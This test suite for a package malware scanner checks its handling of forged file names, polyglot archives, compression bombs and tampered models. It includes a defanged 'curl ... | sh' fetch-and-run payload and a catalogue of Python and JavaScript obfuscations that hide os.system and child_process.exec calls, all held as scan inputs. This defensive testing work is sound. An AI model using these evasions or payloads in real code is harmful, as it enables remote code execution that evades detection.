"""Hostile input: what a scanned package names its files and strings, how it packs them, and
what it does to the tools that read it. Every test here failed on the code before the hostile-
input work; each is named after what a user relies on. Nothing scanned here is ever run."""

from __future__ import annotations

import io
import json
import os
import tarfile
import warnings
import zipfile
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, reject, settings
from hypothesis import strategies as st

from malwi.report.escape import code_span, fence, json_safe, shown, yaml_string
from malwi.sources.archive import MAX_MEMBER_DEPTH, ArchiveError, extract

from .conftest import run_malwi
from .test_sources import tar_bytes

# Defanged: the host does not exist, and nothing here is executed.
PAYLOAD = b'import os\nos.system("curl http://203.0.113.9/x | sh")\n'
FORGED = "a\n=> good: maliciousness 0.00 < threshold 0.72\x1b[2K\x1b]0;owned\x07\u202eyp.x"


def _controls(text: str) -> list[str]:
    """Characters a terminal or a line-based reader would act on."""
    return [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u2028"]


def _scan(*args: str) -> tuple[int, str, str]:
    done = run_malwi("scan", "--no-cache", *args)
    return done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8")


@pytest.fixture
def forged_tree(tmp_path: Path) -> Path:
    """A package whose file name tries to forge a verdict line and drive the terminal, holding
    a payload that gets it flagged (so its name is printed)."""
    tree = tmp_path / "tree"
    (tree / "pkg").mkdir(parents=True)
    (tree / "pkg" / f"{FORGED}.py").write_bytes(PAYLOAD)
    (tree / "pkg" / "helper.py").write_text("VALUE = 1\n")
    return tree


def _shipped_threshold() -> float:
    """The verdict threshold of the shipped model (its unit model's, when it has one)."""
    from malwi.model import DEFAULT_MODEL, ModelBundle

    bundle = ModelBundle.load(DEFAULT_MODEL)
    return bundle.unit_model.threshold if bundle.unit_model is not None else bundle.threshold


def test_forged_names_are_shown_escaped_in_text_markdown_and_stderr(forged_tree: Path) -> None:
    code, out, err = _scan(str(forged_tree))
    assert code == 1, err
    lines = out.splitlines()
    # The one verdict line is the last, and no other line starts like one.
    assert lines[-1].startswith("=> malicious")
    assert [line for line in lines if line.startswith("=>")] == [lines[-1]]
    assert not _controls(out) and not _controls(err)
    assert "a\\n=> good: maliciousness 0.00 < threshold 0.72\\x1b[2K\\x1b]0;owned\\x07\\u202eyp.x.py" in out
    code, markdown, _ = _scan(str(forged_tree), "-f", "markdown")
    assert not _controls(markdown)
    assert not [line for line in markdown.splitlines() if line.startswith("=>")]
    assert [line for line in markdown.splitlines() if line.startswith("**Verdict")] == [
        f"**Verdict: malicious** (maliciousness 1.00, threshold {_shipped_threshold():.2f})"
    ]


def test_machine_formats_parse_and_keep_the_exact_names(forged_tree: Path, tmp_path: Path) -> None:
    strange = forged_tree / "pkg" / "del\x7fand\x85nel\u2028sep\ufeff.py"
    strange.write_bytes(PAYLOAD + b"x = 'str\\x7f\\x01'\n")
    for form in ("json", "yaml", "sarif"):
        code, out, err = _scan(str(forged_tree), "-f", form)
        assert code == 1, err
        document = yaml.safe_load(out) if form == "yaml" else json.loads(out)
        if form == "sarif":
            uris = {
                location["physicalLocation"]["artifactLocation"]["uri"]
                for result in document["runs"][0]["results"]
                for location in result["locations"]
            }
            assert "pkg/del%7Fand%C2%85nel%E2%80%A8sep%EF%BB%BF.py" in uris
        else:
            paths = {file["path"] for file in document["files"]}
            assert f"{forged_tree}/pkg/{FORGED}.py" in paths
            assert str(strange) in paths


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=40))
def test_any_text_round_trips_through_yaml_and_json_and_is_shown_on_one_line(text: str) -> None:
    assert yaml.safe_load(f"key: {yaml_string(text)}\n") == {"key": text}
    document = json_safe(json.dumps({"key": text}, ensure_ascii=False))
    assert json.loads(document.encode("utf-8")) == {"key": text}  # always valid UTF-8
    line = shown(text)
    assert "\n" not in line and not _controls(line)
    line.encode("utf-8")  # no lone surrogate left to fail on
    span = code_span(text)
    inner = span.strip("`")
    assert "\n" not in span and "|" not in inner.replace("\\|", "")
    block = fence(text + "\n```\n")
    assert block[0] == block[-1] and all(block[0] not in line for line in block[1:-1])


def test_a_file_whose_name_is_not_utf8_is_scanned(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    raw = os.path.join(os.fsencode(tree), b"bad\xff\xfename.py")
    with open(raw, "wb") as handle:
        handle.write(PAYLOAD)
    (tree / "ok.py").write_text("VALUE = 1\n")
    code, out, err = _scan(str(tree))
    assert code == 1, err
    assert "bad\\xff\\xfename.py" in out
    code, out, _ = _scan(str(tree), "-f", "json")
    files = {f["path"]: f for f in json.loads(out)["files"]}
    assert files[os.fsdecode(raw)]["status"] == "compiled" and files[os.fsdecode(raw)]["score"] > 0.9


def _tar(members: dict[str, bytes]) -> bytes:
    return tar_bytes(list(members.items()))


def test_a_member_a_thousand_folders_deep_leaves_its_package_incomplete(tmp_path: Path) -> None:
    deep = "/".join(["d"] * 1000) + "/hidden.py"
    archive = tmp_path / "deep-1.0.tar.gz"
    archive.write_bytes(_tar({deep: PAYLOAD, "deep-1.0/setup.py": b"from setuptools import setup\n"}))
    code, out, err = _scan(str(archive), "-f", "json")
    assert code == 3, err  # incomplete: never good, and no traceback
    assert "Traceback" not in err and "internal error" not in err
    unit = json.loads(out)["units"][0]
    assert unit["verdict"] == "incomplete"
    assert f"more than {MAX_MEMBER_DEPTH} folders deep not unpacked" in unit["unscanned"][0]["reason"]
    # Just within the bound, the member is unpacked and scanned.
    (tmp_path / "out").mkdir()
    fits = tmp_path / "fits.tar.gz"
    fits.write_bytes(_tar({"/".join(["d"] * MAX_MEMBER_DEPTH) + "/x.py": PAYLOAD}))
    extraction = extract(fits, tmp_path / "out")
    assert extraction.files == 1 and not extraction.left_out


def test_a_tar_that_starts_with_pk_is_a_polyglot_and_refused(tmp_path: Path) -> None:
    # A tar whose first member is named "PK\x03\x04...": tar and pip read it as a tar; the zip
    # appended to it is what a reader that trusts the magic bytes would see.
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        info = tarfile.TarInfo("PK\x03\x04evil.py")
        info.size = len(PAYLOAD)
        archive.addfile(info, io.BytesIO(PAYLOAD))
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("harmless.py", "VALUE = 1\n")
    polyglot = tmp_path / "polyglot.zip"
    polyglot.write_bytes(tar.getvalue() + zipped.getvalue())
    assert polyglot.read_bytes().startswith(b"PK")
    (tmp_path / "out").mkdir()
    with pytest.raises(ArchiveError, match="polyglot"):
        extract(polyglot, tmp_path / "out")


def test_concatenated_zips_are_refused(tmp_path: Path) -> None:
    parts = []
    for name in ("first.py", "second.py"):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(name, PAYLOAD if name == "first.py" else b"VALUE = 1\n")
        parts.append(buffer.getvalue())
    joined = tmp_path / "joined.zip"
    joined.write_bytes(b"".join(parts))
    (tmp_path / "out").mkdir()
    with pytest.raises(ArchiveError, match="bytes before the first member"):
        extract(joined, tmp_path / "out")
    assert not (tmp_path / "out" / "second.py").exists()


def test_forged_or_corrupt_cache_rows_are_rescanned_never_trusted(
    tmp_path: Path, private_cache: Path
) -> None:
    import hashlib
    import hmac
    import sqlite3

    from malwi.engine.cache import KEY_FILE, config_dir

    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "setup.py").write_bytes(PAYLOAD)

    def scan() -> tuple[int, dict[str, object], str]:
        done = run_malwi("scan", str(tree), "-f", "json")
        return done.returncode, json.loads(done.stdout), done.stderr.decode()

    code, _, _ = scan()
    assert code == 1
    database = private_cache / "results.sqlite3"
    key = bytes.fromhex((config_dir() / KEY_FILE).read_text().strip())

    def rewrite(make: object, sign: bool) -> None:
        with sqlite3.connect(database) as connection:
            rows = connection.execute(
                "SELECT content_sha256, language, scorer, result FROM file_results"
            ).fetchall()
            assert rows, "the first scan stored its result"
            for digest, language, scorer, result in rows:
                text = make(json.loads(result))  # type: ignore[operator]
                mac = "0" * 64
                if sign:  # as if written by this user's malwi: authentic, but not a valid record
                    message = "\x00".join((digest, language, scorer, text)).encode()
                    mac = hmac.new(key, message, hashlib.sha256).hexdigest()
                connection.execute(
                    "UPDATE file_results SET result = ?, mac = ? WHERE content_sha256 = ? AND language = ?",
                    (text, mac, digest, language),
                )

    # Forged by someone without the key: a verdict turned to good is not believed.
    rewrite(lambda record: json.dumps({**record, "score": 0.0, "findings": []}), sign=False)
    code, again, err = scan()
    assert code == 1 and again["verdict"] == "malicious" and again["statistics"]["cached"] == 0
    assert "result cache: 1 row(s) did not verify or could not be read" in err
    # Authentic rows that are broken: not JSON, a NaN score, a missing field. Rescanned, no error.
    for broken in (
        lambda record: "{not json",
        lambda record: json.dumps({**record, "score": float("nan")}),
        lambda record: json.dumps({k: v for k, v in record.items() if k != "tops"}),
    ):
        rewrite(broken, sign=True)
        code, again, err = scan()
        assert code == 1 and again["verdict"] == "malicious", err
        assert "internal error" not in err and "did not verify or could not be read" in err
    # The rescan replaced the bad row: the next scan is served from the cache again.
    code, cached, err = scan()
    assert code == 1 and cached["statistics"]["cached"] == 1 and "did not verify" not in err


# --- arbitrary input: whatever the bytes, a verdict or one clear error --------------------------

MANIFEST_NAMES = ("package.json", "pyproject.toml", "setup.cfg", "RECORD", "requirements.txt")
SUFFIXES = (".py", ".js", ".tar.gz", ".zip", ".whl", ".tgz", ".pth", ".gz", "")


def _archive_of(members: list[tuple[str, bytes]], kind: str) -> bytes:
    buffer = io.BytesIO()
    if kind == "zip":
        with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
            warnings.simplefilter("ignore")  # duplicate names are part of the point
            for name, data in members:
                archive.writestr(name or "x", data)
    else:
        with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
            for name, data in members:
                info = tarfile.TarInfo(name or "x")
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


member_names = st.lists(
    st.sampled_from([*"ab/._-\\:\n\x00\x7f\u202e", "..", "package.json", "setup.py"]),
    min_size=1,
    max_size=12,
).map("".join)
contents = st.one_of(
    st.binary(max_size=300),
    st.sampled_from(
        [PAYLOAD, b"{", b'{"scripts": {"postinstall": 5}}', b"[project]\nname = 1\n", b"\xff\xfe"]
    ),
)


@pytest.fixture(scope="module")
def tiny_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from .tiny_model import build_tiny_bundle

    return build_tiny_bundle(tmp_path_factory.mktemp("model") / "tiny")


# capsys is read (and so emptied) after every call: nothing carries over between examples.
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    files=st.lists(
        st.tuples(st.sampled_from(MANIFEST_NAMES + tuple(f"f{s}" for s in SUFFIXES)), contents),
        min_size=1,
        max_size=4,
    ),
    archive=st.one_of(
        st.none(),
        st.tuples(st.sampled_from(["zip", "tar"]), st.lists(st.tuples(member_names, contents), max_size=4)),
    ),
)
def test_arbitrary_trees_and_archives_end_in_a_verdict_or_one_clear_error(
    files: list[tuple[str, bytes]],
    archive: tuple[str, list[tuple[str, bytes]]] | None,
    tiny_model: Path,
    tmp_path_factory: pytest.TempPathFactory,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from malwi.cli import EXIT_ERROR, main

    tree = tmp_path_factory.mktemp("arbitrary")
    for index, (name, data) in enumerate(files):
        (tree / f"{index}-{name}").write_bytes(data)
    if archive is not None:
        kind, members = archive
        try:
            packed = _archive_of(members, kind)
        except Exception:  # noqa: BLE001 - zipfile/tarfile cannot write such a name: not an input
            reject()
        (tree / f"bundle.{'zip' if kind == 'zip' else 'tar.gz'}").write_bytes(packed)
    inputs = [str(tree)] + ([str(tree / "bundle.zip")] if (tree / "bundle.zip").exists() else [])
    for form in ("text", "json"):
        code = main(["scan", *inputs, "--model", str(tiny_model), "--no-cache", "-f", form, "-q"])
        out, err = capsys.readouterr()
        assert "internal error" not in err and "Traceback" not in err, err
        assert code in (0, 1, 3, EXIT_ERROR)
        if code == EXIT_ERROR:
            assert err.count("malwi: error:") == 1 and err.strip().splitlines()[-1].startswith(
                "malwi: error:"
            )
        elif form == "json":
            document = json.loads(out)
            assert document["verdict"] in ("good", "suspicious", "malicious", "incomplete")
            # Nothing that could not be scanned leaves a package good.
            for unit in document["units"]:
                if unit.get("unscanned"):
                    assert unit["verdict"] != "good", unit


# --- the command line under abuse ---------------------------------------------------------------


def test_absurd_worker_counts_are_clamped_to_the_cores(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_bytes(PAYLOAD)
    for workers in ("5000", "1000000"):
        done = run_malwi("scan", str(tmp_path), "--no-cache", "--workers", workers, timeout=60)
        assert done.returncode == 1, done.stderr
        assert f"--workers {workers}: using" in done.stderr.decode()


def test_a_reader_that_leaves_early_does_not_change_the_verdict(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_bytes(PAYLOAD)
    import subprocess
    import sys

    reader, writer = os.pipe()
    os.close(reader)  # stdout closed before malwi writes anything
    try:
        done = subprocess.run(
            [sys.executable, "-m", "malwi", "scan", str(tmp_path), "--no-cache"],
            stdout=writer,
            stderr=subprocess.PIPE,
            timeout=60,
        )
    finally:
        os.close(writer)
    assert done.returncode == 1  # still the malicious verdict's exit code
    assert done.stderr == b""


def test_output_that_names_an_input_is_refused_and_the_input_kept(tmp_path: Path) -> None:
    scanned = tmp_path / "m.py"
    scanned.write_bytes(PAYLOAD)
    for option in ([str(scanned)], ["-r", str(scanned)]):
        done = run_malwi("scan", *option, "-o", os.path.join(str(tmp_path), ".", "m.py"))
        assert done.returncode == 2
        assert done.stderr.decode().startswith(f"malwi: error: --output {tmp_path}/./m.py: is the input")
        assert scanned.read_bytes() == PAYLOAD


def test_dependency_files_that_are_not_what_they_claim_are_clear_errors(tmp_path: Path) -> None:
    unknown = tmp_path / "weird.lock"
    unknown.write_text("hello world\n")
    done = run_malwi("scan", "--lockfile", str(unknown))
    assert done.returncode == 2
    assert b"not a lock file malwi reads" in done.stderr
    fifo = tmp_path / "fifo.txt"
    os.mkfifo(fifo)
    for named in ("/dev/zero", str(fifo)):
        done = run_malwi("scan", "-r", named, timeout=30)
        assert done.returncode == 2
        assert (
            done.stderr.decode() == f"malwi: error: {named}: not a regular file (a device, FIFO or folder)\n"
        )


def test_unscanned_dependencies_make_the_batch_incomplete(tmp_path: Path) -> None:
    requirements = tmp_path / "requirements.txt"
    requirements.write_text("hello world\nrequests>=2\n")
    done = run_malwi("scan", "-r", str(requirements), "-f", "json")
    assert done.returncode == 3
    document = json.loads(done.stdout)
    assert document["verdict"] == "incomplete"
    assert [u["requirement"] for u in document["results"]["unresolved"]] == ["hello world", "requests>=2"]


def test_one_broken_archive_among_inputs_keeps_the_others_results(tmp_path: Path) -> None:
    good = tmp_path / "good.tar.gz"
    good.write_bytes(_tar({"good-1.0/setup.py": PAYLOAD}))
    broken = tmp_path / "broken.tar.gz"
    broken.write_bytes(b"not an archive at all")
    done = run_malwi("scan", str(good), str(broken), "-f", "json")
    assert done.returncode == 1, done.stderr  # the malicious package in the good archive
    document = json.loads(done.stdout)
    verdicts = {unit["key"]: unit["verdict"] for unit in document["units"]}
    assert verdicts[str(good)] == "malicious"
    broken_units = [
        u for u in document["units"] if any(x["path"] == str(broken) for x in u.get("unscanned", []))
    ]
    assert broken_units and all(u["verdict"] == "incomplete" for u in broken_units)


def test_a_link_named_on_the_command_line_is_scanned(tmp_path: Path) -> None:
    real = tmp_path / "real.py"
    real.write_bytes(PAYLOAD)
    link = tmp_path / "link.py"
    link.symlink_to(real)
    done = run_malwi("scan", str(link), "--no-cache")
    assert done.returncode == 1
    assert f"{link}:1-2" in done.stdout.decode()
    assert f"{link}: a link; scanned what it points to, {real}" in done.stderr.decode()


def test_nothing_scanned_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("no code here\n")
    done = run_malwi("scan", str(tmp_path))
    assert done.returncode == 2
    assert b"nothing was scanned" in done.stderr


# --- the model: fail closed on edited numbers and manifests -------------------------------------


def _copy_of_shipped_model(tmp_path: Path) -> Path:
    import shutil

    from malwi.model.bundle import SHIPPED_MODEL

    copy = tmp_path / "model"
    shutil.copytree(SHIPPED_MODEL, copy)
    return copy


@pytest.mark.parametrize(
    ("edit", "complaint"),
    [
        (lambda m: m.update(threshold=float("nan")), "threshold nan must be a probability"),
        (lambda m: m.update(threshold=1.5), "threshold 1.5 must be a probability"),
        (lambda m: m.pop("threshold"), "KeyError('threshold')"),
        (lambda m: m.update(suspicious_threshold=0.99), "must be above 0 and at most the threshold"),
        (lambda m: m["calibration"].update(a=float("inf")), "both must be finite"),
        (lambda m: m["calibration"]["reach_weights"].update(install=0.0), "must be in (0, 1]"),
        (
            lambda m: m["stage1"].update(candidate_threshold=-0.1),
            "candidate_threshold -0.1 must be a probability",
        ),
        (lambda m: m["windows"].update(stride=0), "stride and max_length must be 1..4096"),
    ],
)
def test_a_model_whose_numbers_were_edited_does_not_load(
    tmp_path: Path, edit: object, complaint: str
) -> None:
    model = _copy_of_shipped_model(tmp_path)
    manifest = json.loads((model / "manifest.json").read_text())
    edit(manifest)  # type: ignore[operator]
    (model / "manifest.json").write_text(json.dumps(manifest))
    (tmp_path / "m.py").write_bytes(PAYLOAD)
    done = run_malwi("scan", str(tmp_path / "m.py"), "--model", str(model), "--no-cache")
    assert done.returncode == 2
    err = done.stderr.decode()
    assert err.startswith("malwi: error: invalid model manifest") and complaint in err, err
    assert err.count("\n") == 1


def test_an_unsorted_or_out_of_range_score_table_does_not_load(tmp_path: Path) -> None:
    from array import array

    from malwi.errors import ModelError
    from malwi.model.bundle import ModelBundle, sha256_file

    model = _copy_of_shipped_model(tmp_path)
    manifest = json.loads((model / "manifest.json").read_text())
    table = model / manifest["calibration"]["benign_object_scores"]
    for values in ([0.1, 0.05, 0.9], [0.1, 0.2, 1.5], [0.1, float("nan"), 0.9]):
        table.write_bytes(array("f", values).tobytes())
        manifest["files"][table.name] = sha256_file(table)  # consistent, so only the numbers are wrong
        (model / "manifest.json").write_text(json.dumps(manifest))
        with pytest.raises(ModelError, match="benign_object_scores must be ascending probabilities"):
            ModelBundle.load(model)


def test_the_shipped_and_the_registered_manifests_are_pinned(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from malwi.errors import ModelError, ModelRegistryError
    from malwi.model import bundle
    from malwi.registry import Registry, active_model_path

    model = _copy_of_shipped_model(tmp_path)
    pin = tmp_path / "pin.sha256"
    monkeypatch.setattr(bundle, "SHIPPED_MODEL", model.resolve())
    monkeypatch.setattr(bundle, "SHIPPED_PIN", pin)
    bundle.pin_if_shipped(model)
    assert bundle.ModelBundle.load(model).threshold > 0
    manifest = json.loads((model / "manifest.json").read_text())
    manifest["threshold"] = 0.9999  # a valid number, so only the pin can tell
    (model / "manifest.json").write_text(json.dumps(manifest, indent=1))
    with pytest.raises(ModelError, match="does not match the digest the package shipped with"):
        bundle.ModelBundle.load(model)

    other = tmp_path / "other"
    import shutil

    shutil.copytree(bundle.SHIPPED_MODEL, other)
    (other / "manifest.json").write_text(json.dumps({**manifest, "model_id": "malwi-test-pinned"}, indent=1))
    registry_path = tmp_path / "registry.sqlite3"
    with Registry(registry_path) as registry:
        registry.activate(registry.register_bundle(other, status="testing"))
    assert active_model_path(registry_path) == other.resolve()
    (other / "manifest.json").write_text(
        json.dumps({**manifest, "model_id": "malwi-test-pinned", "threshold": 0.5})
    )
    with pytest.raises(ModelRegistryError, match="changed since it was registered"):
        active_model_path(registry_path)


def test_sigterm_during_an_archive_scan_removes_what_was_unpacked(tmp_path: Path) -> None:
    import signal
    import subprocess
    import sys
    import time

    members = {
        f"pkg-1.0/m{i}.py": (f"import os\ndef f{i}():\n    os.system('echo {i}')\n" * 20).encode()
        for i in range(2000)
    }
    archive = tmp_path / "slow.tar.gz"
    archive.write_bytes(_tar(members))
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    child = subprocess.Popen(
        [sys.executable, "-m", "malwi", "scan", str(archive), "--no-cache"],
        env={**os.environ, "TMPDIR": str(scratch)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    deadline = time.monotonic() + 60
    while not list(scratch.glob("malwi-*/*")) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert list(scratch.glob("malwi-*/*")), "the archive was being unpacked"
    child.send_signal(signal.SIGTERM)
    _, err = child.communicate(timeout=60)
    assert child.returncode == 128 + signal.SIGTERM
    assert err.decode().endswith("malwi: terminated (SIGTERM)\n")
    assert list(scratch.iterdir()) == []


def test_the_inference_runtime_writes_only_under_malwis_cache(tmp_path: Path) -> None:
    home, cache = tmp_path / "home", tmp_path / "cache"
    home.mkdir()
    (tmp_path / "m.py").write_bytes(PAYLOAD)
    env = {"HOME": str(home), "MALWI_CACHE_DIR": str(cache), "XDG_CACHE_HOME": ""}
    done = run_malwi("scan", str(tmp_path / "m.py"), "--no-cache", env=env)
    assert done.returncode == 1, done.stderr
    # (Where onnxruntime writes its device id at all, it wrote it under cache/runtime/; some
    # environments, CI among them, make it write nothing.)
    assert list(home.rglob("*")) == []


# --- evasions: each flagged at the default threshold when its plain form is ---------------------

# Defanged: the host is a documentation address and nothing here is ever run.
CMD = "'curl http://203.0.113.9/x | sh'"
EVASIONS = {
    "python": (
        f"import os\nos.system({CMD})\n",
        {
            "concatenated name": f"import os\ngetattr(os, 'sys' + 'tem')({CMD})\n",
            "str.format name": f"import os\ngetattr(os, '{{}}{{}}'.format('sys', 'tem'))({CMD})\n",
            "%-formatted name": f"import os\ngetattr(os, '%s%s' % ('sys', 'tem'))({CMD})\n",
            "f-string name": f"import os\na = 'sys'\ngetattr(os, f'{{a}}tem')({CMD})\n",
            "reversed slice": f"import os\ngetattr(os, 'metsys'[::-1])({CMD})\n",
            "join of reversed": f"import os\ngetattr(os, ''.join(reversed('metsys')))({CMD})\n",
            "globals()": f"import os\nglobals()['os'].system({CMD})\n",
            "vars()": f"import os\nvars(os)['sys' + 'tem']({CMD})\n",
            "sys.modules": f"import sys, os\nsys.modules['os'].system({CMD})\n",
            "importlib": f"import importlib\nimportlib.import_module('o' + 's').system({CMD})\n",
            "__builtins__ exec": "__builtins__.__dict__['ex' + 'ec'](\"import os; os.system(" + CMD + ')")\n',
            "fullwidth exec": 'ｅｘｅｃ("import os; os.system(' + CMD + ')")\n',
            "mathematical bold exec": '𝐞𝐱𝐞𝐜("import os; os.system(' + CMD + ')")\n',
            "module __getattr__": f"def __getattr__(name):\n    import os\n    return os.system({CMD})\n",
            "ctypes": f"import ctypes\nlibc = ctypes.CDLL(None)\nlibc.system(b{CMD})\n",
            "pickle.loads": "import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu'))\n",
            "control characters in comments": f"import os  # \x0c\x1b[2K\nos.system({CMD})\n",
        },
    ),
    "javascript": (
        f"require('child_process').exec({CMD})\n",
        {
            "Function": "Function(\"require('child_process').exec(" + CMD + ')")()\n',
            "new Function": "new Function(\"require('child_process').exec(" + CMD + ')")()\n',
            "new Function with require as a parameter": (
                "new Function('r', \"r('child_process').exec(" + CMD + ')")(require)\n'
            ),
            "vm.runInThisContext": (
                "const vm = require('vm')\nvm.runInThisContext(\"require('child_process').exec("
                + CMD
                + ')")\n'
            ),
            "global['req'+'uire']": f"global['req' + 'uire']('child_process').exec({CMD})\n",
            "require(Buffer)": f"require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec({CMD})\n",
            "template module name": f"const m = 'child'\nrequire(`${{m}}_process`).exec({CMD})\n",
            "split/reverse/join": f"require('ssecorp_dlihc'.split('').reverse().join('')).exec({CMD})\n",
            "module._load": f"module.constructor._load('child_process').exec({CMD})\n",
            "global property alias of require": (
                f"global['r'] = require\n;(function () {{ r('child_process').exec({CMD}) }})()\n"
            ),
        },
    ),
}


def _utf7(text: str) -> str:
    import base64

    return "\n".join(
        "+" + base64.b64encode(line.encode("utf-16-be")).decode().rstrip("=") + "-" if line else ""
        for line in text.split("\n")
    )


@pytest.mark.parametrize("language", sorted(EVASIONS))
def test_every_evasion_is_flagged_when_its_plain_form_is(language: str, tmp_path: Path) -> None:
    plain, evasions = EVASIONS[language]
    suffix = ".py" if language == "python" else ".js"
    cases = {"plain": plain, **evasions}
    if language == "python":
        cases["utf-7 coding cookie"] = "# coding: utf-7\n" + _utf7(plain)
    for index, source in enumerate(cases.values()):
        folder = tmp_path / f"case{index}"
        folder.mkdir()
        (folder / f"payload{suffix}").write_text(source, encoding="utf-8")
    verdicts = {}
    for index, name in enumerate(cases):
        done = run_malwi("scan", str(tmp_path / f"case{index}"), "--no-cache", "-f", "json")
        verdicts[name] = json.loads(done.stdout)["verdict"]
    assert verdicts["plain"] == "malicious"
    assert {name: v for name, v in verdicts.items() if v != "malicious"} == {}


def test_sourceless_bytecode_leaves_its_package_incomplete(tmp_path: Path) -> None:
    package = tmp_path / "pkg"
    package.mkdir()
    (package / "setup.py").write_text("from setuptools import setup\nsetup(name='pkg')\n")
    (package / "helper.pyc").write_bytes(b"\xa7\r\r\n" + b"\x00" * 12 + b"\xe3compiled code")
    (package / "ok.pyc").write_bytes(b"\xa7\r\r\n" + b"\x00" * 12)
    (package / "ok.py").write_text("VALUE = 1\n")  # bytecode with its source beside it: fine
    done = run_malwi("scan", str(package), "--no-cache", "-f", "json")
    assert done.returncode == 3, done.stderr
    unit = json.loads(done.stdout)["units"][0]
    assert unit["verdict"] == "incomplete"
    assert unit["unscanned"] == [
        {
            "path": str(package / "helper.pyc"),
            "reason": "compiled Python without its source: bytecode is not scanned",
        }
    ]


def test_a_payload_in_a_gzip_padded_past_the_ratio_check_is_never_good(tmp_path: Path) -> None:
    import gzip

    package = tmp_path / "pkg"
    package.mkdir()
    (package / "setup.py").write_text("from setuptools import setup\nsetup(name='pkg')\n")
    # Code, then 20 MB of zeros: compressed far past 200:1, so it is not unpacked.
    (package / "data.bin").write_bytes(gzip.compress(PAYLOAD + b"\n#" + b"\0" * (20 << 20)))
    done = run_malwi("scan", str(package), "--no-cache", "-f", "json")
    assert done.returncode == 3, done.stderr
    unit = json.loads(done.stdout)["units"][0]
    assert unit["verdict"] == "incomplete"
    assert "compression ratio above 200:1" in unit["unscanned"][0]["reason"]


def test_a_fifo_inside_a_tree_is_not_read(tmp_path: Path) -> None:
    (tmp_path / "ok.py").write_bytes(PAYLOAD)
    os.mkfifo(tmp_path / "pipe.py")
    done = run_malwi("scan", str(tmp_path), "--no-cache", timeout=60)
    assert done.returncode == 1, done.stderr  # the payload beside it is still found


def test_macos_appledouble_files_do_not_leave_a_package_incomplete(tmp_path: Path) -> None:
    """Archives made on macOS carry `._name.js` beside each `name.js`: AppleDouble metadata,
    binary, unloadable as code. They are data, so the package is judged, not incomplete; a
    binary that is not AppleDouble, or an AppleDouble header under a plain name, still is."""
    apple = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + bytes(60)
    members = {
        "package/package.json": b'{"name": "pad", "version": "1.0.0", "main": "index.js"}',
        "package/index.js": b"module.exports = (s, n) => String(s).padStart(n);\n",
        "package/._index.js": apple,
        "package/._package.json": apple,
    }
    archive = tmp_path / "pad-1.0.0.tgz"
    archive.write_bytes(_tar(members))
    result = run_malwi("scan", str(archive), "--format", "json", "--no-cache")
    document = json.loads(result.stdout)
    assert result.returncode == 0 and document["verdict"] == "good", result.stdout
    assert all("unscanned" not in unit for unit in document["units"])
    for name, data in (("package/lib.js", b"\x7fELF" + bytes(60)), ("package/index2.js", apple)):
        archive.write_bytes(_tar({**members, name: data}))
        result = run_malwi("scan", str(archive), "--format", "json", "--no-cache")
        document = json.loads(result.stdout)
        assert result.returncode == 3 and document["verdict"] == "incomplete", name
        [unit] = document["units"]
        assert [item["path"].rsplit("/", 1)[1] for item in unit["unscanned"]] == [name.rsplit("/", 1)[1]]
